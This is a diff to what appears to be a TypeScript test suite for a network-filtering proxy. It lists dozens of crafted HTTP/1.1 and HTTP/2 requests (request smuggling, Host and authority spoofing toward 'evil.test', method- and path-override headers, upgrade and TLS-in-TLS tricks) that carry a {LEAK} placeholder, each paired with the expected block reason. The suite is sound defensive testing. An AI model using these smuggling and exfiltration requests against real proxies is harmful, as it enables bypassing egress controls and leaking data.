@@ -3,7 +3,8 @@ import { numbered, request, toApi } from './steps.ts';
 
 type Fields = readonly (readonly [string, string])[];
 
-const ask = (line: string, ...fields: readonly string[]): Attack['step'] => toApi(request(line, 'Host: api.test', 'Connection: close', ...fields));
+const ask = (line: string, ...fields: readonly string[]): Attack['step'] =>
+  toApi(request(line, 'Host: api.test', 'Connection: close', ...fields));
 const frames = (headers: Fields, body?: string, trailers?: Fields): Attack['step'] => ({
   kind: 'frames',
   to: 'api.test:443',
@@ -21,7 +22,12 @@ const get = (path: string, ...more: Fields): Fields => [
 const HIDDEN = request('GET /closed/{LEAK} HTTP/1.1', 'Host: api.test');
 /** The beginning of an honest request, as the proxy sends it on: what a body of its length would take for itself. */
 const EATEN = 'GET /open/ok HTTP/1.1\r\nHost: api.test\r\nX-Padding: ';
-const UPGRADE = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='];
+const UPGRADE = [
+  'Connection: Upgrade',
+  'Upgrade: websocket',
+  'Sec-WebSocket-Version: 13',
+  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
+];
 
 const PATHS: readonly string[] = [
   '/closed/{LEAK}',
@@ -50,86 +56,249 @@ const PATHS: readonly string[] = [
 ];
 
 /** A host whose TLS is ended: GET and POST below /open, and nothing else. */
-export const inspected: readonly Attack[] = numbered(
-  'I',
-  [
-    ...PATHS.map((path) => ({ what: `the path ${path}`, step: ask(`GET ${path} HTTP/1.1`), stopped: 'network.unlisted' })),
-    { what: 'a path with a fragment', step: ask('GET /open/#/../closed/{LEAK} HTTP/1.1'), stopped: ['network.malformed', 'network.unlisted'] },
-    { what: 'an absolute URI of another host', step: ask('GET https://evil.test/open/{LEAK} HTTP/1.1'), stopped: 'network.mismatch' },
-    { what: 'an absolute URI with a path that is not allowed', step: ask('GET https://api.test/closed/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
-    { what: 'Host of another host (domain fronting)', step: toApi(request('GET /open/{LEAK} HTTP/1.1', 'Host: evil.test')), stopped: 'network.mismatch' },
-    { what: 'two Hosts', step: ask('GET /open/{LEAK} HTTP/1.1', 'Host: evil.test'), stopped: 'network.malformed' },
-    { what: 'a method that is not allowed', step: ask('DELETE /open/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
-    { what: 'a method in lower case', step: ask('delete /open/{LEAK} HTTP/1.1'), stopped: 'network.malformed' },
-    { what: 'TRACE', step: ask('TRACE /open/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
-    { what: 'OPTIONS *', step: ask('OPTIONS * HTTP/1.1', 'X: {LEAK}'), stopped: 'network.unlisted' },
-    { what: 'CONNECT inside', step: toApi(request('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80')), stopped: 'network.malformed' },
-    { what: 'another method in a field (X-HTTP-Method-Override)', step: ask('POST /open/{LEAK} HTTP/1.1', 'X-HTTP-Method-Override: DELETE', 'Content-Length: 0'), stopped: 'network.unlisted' },
-    { what: 'another method in a field (X-Method-Override)', step: ask('POST /open/{LEAK} HTTP/1.1', 'X-Method-Override: DELETE', 'Content-Length: 0'), stopped: 'network.unlisted' },
-    { what: 'another path in a field (X-Original-URL)', step: ask('GET /open/{LEAK} HTTP/1.1', 'X-Original-URL: /closed'), stopped: 'network.unlisted' },
-    { what: 'another path in a field (X-Rewrite-URL)', step: ask('GET /open/{LEAK} HTTP/1.1', 'X-Rewrite-URL: /closed'), stopped: 'network.unlisted' },
-    { what: 'a second request with a path that is not allowed', step: toApi(request('GET /open/ok HTTP/1.1', 'Host: api.test') + HIDDEN), stopped: 'network.unlisted' },
-    { what: 'CL.TE', step: toApi(`${request('POST /open/x HTTP/1.1', 'Host: api.test', 'Content-Length: 5', 'Transfer-Encoding: chunked')}0\r\n\r\n${HIDDEN}`), stopped: 'network.malformed' },
-    {
-      what: 'Connection names Content-Length, so that the body becomes a request',
-      step: toApi(`${request('GET /open/ok HTTP/1.1', 'Host: api.test', 'Connection: Content-Length', `Content-Length: ${HIDDEN.length + 3}`)}${HIDDEN}`),
-      stopped: ['network.malformed', 'secure /open/ok'],
+export const inspected: readonly Attack[] = numbered('I', 'inspected', [
+  ...PATHS.map((path) => ({ what: `the path ${path}`, step: ask(`GET ${path} HTTP/1.1`), stopped: 'network.unlisted' })),
+  {
+    what: 'a path with a fragment',
+    step: ask('GET /open/#/../closed/{LEAK} HTTP/1.1'),
+    stopped: ['network.malformed', 'network.unlisted'],
+  },
+  {
+    what: 'an absolute URI of another host',
+    step: ask('GET https://evil.test/open/{LEAK} HTTP/1.1'),
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'an absolute URI with a path that is not allowed',
+    step: ask('GET https://api.test/closed/{LEAK} HTTP/1.1'),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'Host of another host (domain fronting)',
+    step: toApi(request('GET /open/{LEAK} HTTP/1.1', 'Host: evil.test')),
+    stopped: 'network.mismatch',
+  },
+  { what: 'two Hosts', step: ask('GET /open/{LEAK} HTTP/1.1', 'Host: evil.test'), stopped: 'network.malformed' },
+  { what: 'a method that is not allowed', step: ask('DELETE /open/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
+  { what: 'a method in lower case', step: ask('delete /open/{LEAK} HTTP/1.1'), stopped: 'network.malformed' },
+  { what: 'TRACE', step: ask('TRACE /open/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
+  { what: 'OPTIONS *', step: ask('OPTIONS * HTTP/1.1', 'X: {LEAK}'), stopped: 'network.unlisted' },
+  {
+    what: 'CONNECT inside',
+    step: toApi(request('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80')),
+    stopped: 'network.malformed',
+  },
+  {
+    what: 'another method in a field (X-HTTP-Method-Override)',
+    step: ask('POST /open/{LEAK} HTTP/1.1', 'X-HTTP-Method-Override: DELETE', 'Content-Length: 0'),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'another method in a field (X-Method-Override)',
+    step: ask('POST /open/{LEAK} HTTP/1.1', 'X-Method-Override: DELETE', 'Content-Length: 0'),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'another path in a field (X-Original-URL)',
+    step: ask('GET /open/{LEAK} HTTP/1.1', 'X-Original-URL: /closed'),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'another path in a field (X-Rewrite-URL)',
+    step: ask('GET /open/{LEAK} HTTP/1.1', 'X-Rewrite-URL: /closed'),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'a second request with a path that is not allowed',
+    step: toApi(request('GET /open/ok HTTP/1.1', 'Host: api.test') + HIDDEN),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'CL.TE',
+    step: toApi(
+      `${request('POST /open/x HTTP/1.1', 'Host: api.test', 'Content-Length: 5', 'Transfer-Encoding: chunked')}0\r\n\r\n${HIDDEN}`,
+    ),
+    stopped: 'network.malformed',
+  },
+  {
+    what: 'Connection names Content-Length, so that the body becomes a request',
+    step: toApi(
+      `${request('GET /open/ok HTTP/1.1', 'Host: api.test', 'Connection: Content-Length', `Content-Length: ${HIDDEN.length + 3}`)}${HIDDEN}`,
+    ),
+    stopped: ['network.malformed', 'secure /open/ok'],
+  },
+  {
+    what: 'an upgrade with a length, so that the next request begins in its body',
+    step: {
+      kind: 'both',
+      steps: [
+        toApi(request('GET /open/early HTTP/1.1', 'Host: api.test', ...UPGRADE, `Content-Length: ${EATEN.length}`)),
+        toApi(request(`${EATEN}GET /closed/{LEAK} HTTP/1.0`, 'X: y')),
+      ],
     },
-    {
-      what: 'an upgrade with a length, so that the next request begins in its body',
-      step: {
-        kind: 'both',
-        steps: [
-          toApi(request('GET /open/early HTTP/1.1', 'Host: api.test', ...UPGRADE, `Content-Length: ${EATEN.length}`)),
-          toApi(request(`${EATEN}GET /closed/{LEAK} HTTP/1.0`, 'X: y')),
-        ],
-      },
-      stopped: 'network.malformed',
-    },
-    { what: 'an upgrade on a path that is not allowed', step: toApi(request('GET /closed/{LEAK} HTTP/1.1', 'Host: api.test', ...UPGRADE)), stopped: 'network.unlisted' },
-    { what: 'plain HTTP instead of TLS', step: { kind: 'write', to: 'api.test:443', pieces: [HIDDEN] }, stopped: 'network.mismatch' },
-    { what: 'HTTP/2 spoken where HTTP/1.1 was agreed on', step: toApi('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{LEAK}'), stopped: 'network.malformed' },
-    {
-      what: 'HTTP/1.1 spoken where HTTP/2 was agreed on',
-      step: { kind: 'tls', to: 'api.test:443', name: 'api.test', alpn: ['h2'], pieces: [HIDDEN] },
-      stopped: 'network.malformed',
-    },
-    { what: 'a protocol that is not served (ALPN)', step: { kind: 'tls', to: 'api.test:443', name: 'api.test', alpn: ['smtp'], pieces: ['{LEAK}'] }, stopped: ['network.malformed', 'ALPN'] },
-    { what: 'bytes that are not HTTP', step: toApi('\u0001\u0002{LEAK}\r\n\r\n'), stopped: 'network.malformed' },
-    {
-      what: 'TLS inside TLS, to another host',
-      step: { kind: 'tls', to: 'api.test:443', name: 'api.test', within: 'evil.test:443', pieces: [HIDDEN] },
-      stopped: 'network.malformed',
-    },
-    { what: 'HTTP/2: another authority', step: frames([[':method', 'GET'], [':scheme', 'https'], [':authority', 'evil.test'], [':path', '/open/{LEAK}']]), stopped: 'network.mismatch' },
-    { what: 'HTTP/2: authority and Host differ', step: frames(get('/open/{LEAK}', ['host', 'evil.test'])), stopped: ['network.mismatch', 'network.malformed', 'RST_STREAM'] },
-    { what: 'HTTP/2: no authority, Host is another one', step: frames([[':method', 'GET'], [':scheme', 'https'], [':path', '/open/{LEAK}'], ['host', 'evil.test']]), stopped: 'network.mismatch' },
-    { what: 'HTTP/2: authority with userinfo', step: frames([[':method', 'GET'], [':scheme', 'https'], [':authority', 'api.test@evil.test'], [':path', '/open/{LEAK}']]), stopped: ['network.mismatch', 'RST_STREAM'] },
-    { what: 'HTTP/2: two authorities', step: frames([...get('/open/{LEAK}').slice(0, 3), [':authority', 'evil.test'], [':path', '/open/{LEAK}']]), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: two paths', step: frames([...get('/open/{LEAK}'), [':path', '/closed/{LEAK}']]), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: a path that is not allowed', step: frames(get('/closed/{LEAK}')), stopped: 'network.unlisted' },
-    { what: 'HTTP/2: a path with ..', step: frames(get('/open/../closed/{LEAK}')), stopped: 'network.unlisted' },
-    { what: 'HTTP/2: an absolute URI for a path', step: frames(get('https://evil.test/open/{LEAK}')), stopped: ['network.mismatch', 'RST_STREAM'] },
-    { what: 'HTTP/2: a line break in the path', step: frames(get('/open/ok HTTP/1.1\r\nHost: api.test\r\n\r\nGET /closed/{LEAK}')), stopped: ['RST_STREAM', 'network.malformed'] },
-    { what: 'HTTP/2: a space in the path', step: frames(get('/closed/{LEAK} /open/')), stopped: ['RST_STREAM', 'network.malformed', 'network.unlisted'] },
-    { what: 'HTTP/2: a line break in a method', step: frames([[':method', 'GET /closed/{LEAK} HTTP/1.1\r\nX: '], ...get('/open/ok').slice(1)]), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: a line break in a field', step: frames(get('/open/ok', ['x', `a\r\n\r\n${HIDDEN}`])), stopped: ['RST_STREAM', 'secure /open/ok'] },
-    { what: "HTTP/2: a line break in a field's name", step: frames(get('/open/ok', [`x: a\r\n\r\n${HIDDEN.toLowerCase()}`, 'b'])), stopped: ['RST_STREAM', 'secure /open/ok'] },
-    { what: 'HTTP/2: a colon in the name of a field', step: frames(get('/open/ok', ['host:', 'evil.test'])), stopped: ['RST_STREAM', 'secure /open/ok'] },
-    { what: 'HTTP/2: transfer-encoding', step: frames(get('/open/ok', ['transfer-encoding', 'chunked']), `0\r\n\r\n${HIDDEN}`), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: a connection field', step: frames(get('/open/ok', ['connection', 'content-length'])), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: a body without a length on GET, which becomes a request', step: frames(get('/open/ok'), HIDDEN), stopped: ['network.malformed', 'secure /open/ok'] },
-    {
-      what: 'HTTP/2: the same on a method of its own',
-      step: frames([[':method', 'POST'], ...get('/open/ok').slice(1)], HIDDEN),
-      stopped: 'secure /open/ok',
-    },
-    { what: 'HTTP/2: a body longer than its length', step: frames(get('/open/ok', ['content-length', '1']), HIDDEN), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: a body shorter than its length', step: frames(get('/open/ok', ['content-length', '999']), HIDDEN), stopped: ['RST_STREAM', '[no more]', '[no answer]'] },
-    { what: 'HTTP/2: two lengths', step: frames(get('/open/ok', ['content-length', '1'], ['content-length', '0']), HIDDEN), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: a path in the trailers', step: frames([[':method', 'POST'], ...get('/open/ok').slice(1)], 'x', [[':path', '/closed/{LEAK}']]), stopped: 'RST_STREAM' },
-    { what: 'HTTP/2: CONNECT', step: frames([[':method', 'CONNECT'], [':authority', 'evil.test:80']]), stopped: ['RST_STREAM', 'network.malformed', 'network.mismatch', '[no more]'] },
-    { what: 'HTTP/2: CONNECT for a WebSocket (RFC 8441)', step: frames([[':method', 'CONNECT'], [':protocol', 'websocket'], ...get('/closed/{LEAK}').slice(1)]), stopped: ['RST_STREAM', 'GOAWAY'] },
-    { what: 'HTTP/2: a method that is not allowed', step: frames([[':method', 'DELETE'], ...get('/open/{LEAK}').slice(1)]), stopped: 'network.unlisted' },
-  ].map((row) => ({ area: 'inspected', ...row }) as const),
-);
+    stopped: 'network.malformed',
+  },
+  {
+    what: 'an upgrade on a path that is not allowed',
+    step: toApi(request('GET /closed/{LEAK} HTTP/1.1', 'Host: api.test', ...UPGRADE)),
+    stopped: 'network.unlisted',
+  },
+  {
+    what: 'plain HTTP instead of TLS',
+    step: { kind: 'write', to: 'api.test:443', pieces: [HIDDEN] },
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'HTTP/2 spoken where HTTP/1.1 was agreed on',
+    step: toApi('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{LEAK}'),
+    stopped: 'network.malformed',
+  },
+  {
+    what: 'HTTP/1.1 spoken where HTTP/2 was agreed on',
+    step: { kind: 'tls', to: 'api.test:443', name: 'api.test', alpn: ['h2'], pieces: [HIDDEN] },
+    stopped: 'network.malformed',
+  },
+  {
+    what: 'a protocol that is not served (ALPN)',
+    step: { kind: 'tls', to: 'api.test:443', name: 'api.test', alpn: ['smtp'], pieces: ['{LEAK}'] },
+    stopped: ['network.malformed', 'ALPN'],
+  },
+  { what: 'bytes that are not HTTP', step: toApi('\u0001\u0002{LEAK}\r\n\r\n'), stopped: 'network.malformed' },
+  {
+    what: 'TLS inside TLS, to another host',
+    step: { kind: 'tls', to: 'api.test:443', name: 'api.test', within: 'evil.test:443', pieces: [HIDDEN] },
+    stopped: 'network.malformed',
+  },
+  {
+    what: 'HTTP/2: another authority',
+    step: frames([
+      [':method', 'GET'],
+      [':scheme', 'https'],
+      [':authority', 'evil.test'],
+      [':path', '/open/{LEAK}'],
+    ]),
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'HTTP/2: authority and Host differ',
+    step: frames(get('/open/{LEAK}', ['host', 'evil.test'])),
+    stopped: ['network.mismatch', 'network.malformed', 'RST_STREAM'],
+  },
+  {
+    what: 'HTTP/2: no authority, Host is another one',
+    step: frames([
+      [':method', 'GET'],
+      [':scheme', 'https'],
+      [':path', '/open/{LEAK}'],
+      ['host', 'evil.test'],
+    ]),
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'HTTP/2: authority with userinfo',
+    step: frames([
+      [':method', 'GET'],
+      [':scheme', 'https'],
+      [':authority', 'api.test@evil.test'],
+      [':path', '/open/{LEAK}'],
+    ]),
+    stopped: ['network.mismatch', 'RST_STREAM'],
+  },
+  {
+    what: 'HTTP/2: two authorities',
+    step: frames([...get('/open/{LEAK}').slice(0, 3), [':authority', 'evil.test'], [':path', '/open/{LEAK}']]),
+    stopped: 'RST_STREAM',
+  },
+  { what: 'HTTP/2: two paths', step: frames([...get('/open/{LEAK}'), [':path', '/closed/{LEAK}']]), stopped: 'RST_STREAM' },
+  { what: 'HTTP/2: a path that is not allowed', step: frames(get('/closed/{LEAK}')), stopped: 'network.unlisted' },
+  { what: 'HTTP/2: a path with ..', step: frames(get('/open/../closed/{LEAK}')), stopped: 'network.unlisted' },
+  {
+    what: 'HTTP/2: an absolute URI for a path',
+    step: frames(get('https://evil.test/open/{LEAK}')),
+    stopped: ['network.mismatch', 'RST_STREAM'],
+  },
+  {
+    what: 'HTTP/2: a line break in the path',
+    step: frames(get('/open/ok HTTP/1.1\r\nHost: api.test\r\n\r\nGET /closed/{LEAK}')),
+    stopped: ['RST_STREAM', 'network.malformed'],
+  },
+  {
+    what: 'HTTP/2: a space in the path',
+    step: frames(get('/closed/{LEAK} /open/')),
+    stopped: ['RST_STREAM', 'network.malformed', 'network.unlisted'],
+  },
+  {
+    what: 'HTTP/2: a line break in a method',
+    step: frames([[':method', 'GET /closed/{LEAK} HTTP/1.1\r\nX: '], ...get('/open/ok').slice(1)]),
+    stopped: 'RST_STREAM',
+  },
+  {
+    what: 'HTTP/2: a line break in a field',
+    step: frames(get('/open/ok', ['x', `a\r\n\r\n${HIDDEN}`])),
+    stopped: ['RST_STREAM', 'secure /open/ok'],
+  },
+  {
+    what: "HTTP/2: a line break in a field's name",
+    step: frames(get('/open/ok', [`x: a\r\n\r\n${HIDDEN.toLowerCase()}`, 'b'])),
+    stopped: ['RST_STREAM', 'secure /open/ok'],
+  },
+  {
+    what: 'HTTP/2: a colon in the name of a field',
+    step: frames(get('/open/ok', ['host:', 'evil.test'])),
+    stopped: ['RST_STREAM', 'secure /open/ok'],
+  },
+  {
+    what: 'HTTP/2: transfer-encoding',
+    step: frames(get('/open/ok', ['transfer-encoding', 'chunked']), `0\r\n\r\n${HIDDEN}`),
+    stopped: 'RST_STREAM',
+  },
+  { what: 'HTTP/2: a connection field', step: frames(get('/open/ok', ['connection', 'content-length'])), stopped: 'RST_STREAM' },
+  {
+    what: 'HTTP/2: a body without a length on GET, which becomes a request',
+    step: frames(get('/open/ok'), HIDDEN),
+    stopped: ['network.malformed', 'secure /open/ok'],
+  },
+  {
+    what: 'HTTP/2: the same on a method of its own',
+    step: frames([[':method', 'POST'], ...get('/open/ok').slice(1)], HIDDEN),
+    stopped: 'secure /open/ok',
+  },
+  {
+    what: 'HTTP/2: a body longer than its length',
+    step: frames(get('/open/ok', ['content-length', '1']), HIDDEN),
+    stopped: 'RST_STREAM',
+  },
+  {
+    what: 'HTTP/2: a body shorter than its length',
+    step: frames(get('/open/ok', ['content-length', '999']), HIDDEN),
+    stopped: ['RST_STREAM', '[no more]', '[no answer]'],
+  },
+  {
+    what: 'HTTP/2: two lengths',
+    step: frames(get('/open/ok', ['content-length', '1'], ['content-length', '0']), HIDDEN),
+    stopped: 'RST_STREAM',
+  },
+  {
+    what: 'HTTP/2: a path in the trailers',
+    step: frames([[':method', 'POST'], ...get('/open/ok').slice(1)], 'x', [[':path', '/closed/{LEAK}']]),
+    stopped: 'RST_STREAM',
+  },
+  {
+    what: 'HTTP/2: CONNECT',
+    step: frames([
+      [':method', 'CONNECT'],
+      [':authority', 'evil.test:80'],
+    ]),
+    stopped: ['RST_STREAM', 'network.malformed', 'network.mismatch', '[no more]'],
+  },
+  {
+    what: 'HTTP/2: CONNECT for a WebSocket (RFC 8441)',
+    step: frames([[':method', 'CONNECT'], [':protocol', 'websocket'], ...get('/closed/{LEAK}').slice(1)]),
+    stopped: ['RST_STREAM', 'GOAWAY'],
+  },
+  {
+    what: 'HTTP/2: a method that is not allowed',
+    step: frames([[':method', 'DELETE'], ...get('/open/{LEAK}').slice(1)]),
+    stopped: 'network.unlisted',
+  },
+]);
